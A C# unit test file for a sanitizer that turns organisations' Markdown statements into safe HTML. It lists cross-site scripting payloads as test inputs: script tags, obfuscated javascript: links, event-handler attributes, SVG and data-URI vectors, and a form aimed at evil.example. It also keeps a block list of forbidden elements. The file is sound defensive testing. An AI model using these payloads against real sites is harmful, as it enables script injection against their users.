using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using PreSessions.Gateway.Statements;

namespace PreSessions.UnitTests.Gateway.Statements;

/// <summary>
/// Statements are written by organisations and read by everyone, so their Markdown must come out as text and safe links
/// only, whatever tricks it holds. Each output is parsed as a browser would parse it and checked for what could run,
/// embed, draw or submit.
/// </summary>
public sealed class StatementMarkdownTests
{
    private static readonly HashSet<string> Forbidden =
        ["script", "iframe", "object", "embed", "svg", "math", "style", "form", "input", "img", "link", "meta", "base", "frame", "video", "audio", "source"];

    public static TheoryData<string> Payloads => new()
    {
        "<script>alert(1)</script>",
        "before <SCRIPT src=https://evil.example/x.js></SCRIPT> after",
        "<iframe src=\"https://evil.example\"></iframe>",
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](&#106;avascript:alert(1))",
        "[click](&#x6A;&#x61;vascript&#58;alert(1))",
        "[click](java&#x09;script:alert(1))",
        "[click]( javascript:alert(1) )",
        "[click][evil]\n\n[evil]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "<a href=\"javascript:alert(1)\">click</a>",
        "<img src=x onerror=alert(1)>",
        "![x](https://example.org/x.png\" onerror=\"alert(1))",
        "<p onclick=\"alert(1)\">text</p>",
        "<svg onload=alert(1)><circle r=1 /></svg>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "![pixel](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "<style>body { display: none }</style>",
        "<form action=\"https://evil.example\"><input name=token></form>",
        "<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/x.swf\">",
        "[vb](vbscript:msgbox(1))",
        "`<script>alert(1)</script>` and\n\n    <script>alert(2)</script>",
    };

    [Theory]
    [MemberData(nameof(Payloads))]
    public void Nothing_that_runs_embeds_draws_or_submits_survives(string markdown)
    {
        var html = StatementMarkdown.ToSafeHtml(markdown);
        var body = Parse(html);

        Assert.DoesNotContain(body.QuerySelectorAll("*"), e => Forbidden.Contains(e.LocalName));
        foreach (var element in body.QuerySelectorAll("*"))
        {
            Assert.DoesNotContain(element.Attributes, a => a.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase));
            Assert.DoesNotContain(element.Attributes, a => a.Name is "style" or "src" or "srcdoc" or "action" or "formaction" or "xlink:href");
        }
        foreach (var link in body.QuerySelectorAll("a"))
            if (link.GetAttribute("href") is { } href)
                Assert.Contains(new Uri(href).Scheme, new[] { "http", "https", "mailto" });
        // The payload may stay readable as text (raw HTML is shown, not run); no attribute may carry it.
        Assert.DoesNotContain(body.QuerySelectorAll("*").SelectMany(e => e.Attributes).Select(a => a.Value),
            v => v.Contains("script:", StringComparison.OrdinalIgnoreCase) || v.Contains("data:", StringComparison.OrdinalIgnoreCase));
    }

    [Fact]
    public void Raw_html_is_shown_as_text_not_dropped_silently()
    {
        var body = Parse(StatementMarkdown.ToSafeHtml("We quote <script>alert(1)</script> as it was sent."));

        Assert.Empty(body.QuerySelectorAll("script"));
        Assert.Equal("We quote <script>alert(1)</script> as it was sent.", body.TextContent.Trim());
    }

    [Fact]
    public void Text_structure_and_web_links_are_kept_and_links_carry_nofollow_noopener()
    {
        var body = Parse(StatementMarkdown.ToSafeHtml(
            "# Civic space\n\nThe **law** of 2016 is *vague*.\n\n1. [UPR Info](https://www.upr-info.org/)\n2. <mailto:info@example.org>\n\n> quoted\n\n- `code`"));

        Assert.Equal("Civic space", body.QuerySelector("h5")?.TextContent);
        Assert.Empty(body.QuerySelectorAll("h1, h2, h3, h4"));
        Assert.Equal("law", body.QuerySelector("strong")?.TextContent);
        Assert.Equal("vague", body.QuerySelector("em")?.TextContent);
        Assert.NotNull(body.QuerySelector("ol > li"));
        Assert.NotNull(body.QuerySelector("blockquote"));
        Assert.NotNull(body.QuerySelector("ul > li > code"));
        var links = body.QuerySelectorAll("a").ToArray();
        Assert.Equal(["https://www.upr-info.org/", "mailto:info@example.org"], links.Select(a => a.GetAttribute("href")));
        Assert.All(links, a => Assert.Equal("nofollow noopener", a.GetAttribute("rel")));
    }

    [Fact]
    public void A_relative_link_keeps_its_text_and_loses_its_target()
    {
        var body = Parse(StatementMarkdown.ToSafeHtml("[the account](/account) and [top](#top)"));

        Assert.Equal("the account and top", body.TextContent.Trim());
        Assert.All(body.QuerySelectorAll("a"), a => Assert.Null(a.GetAttribute("href")));
    }

    private static IElement Parse(string html) => new HtmlParser().ParseDocument($"<!DOCTYPE html><body>{html}</body>").Body!;
}
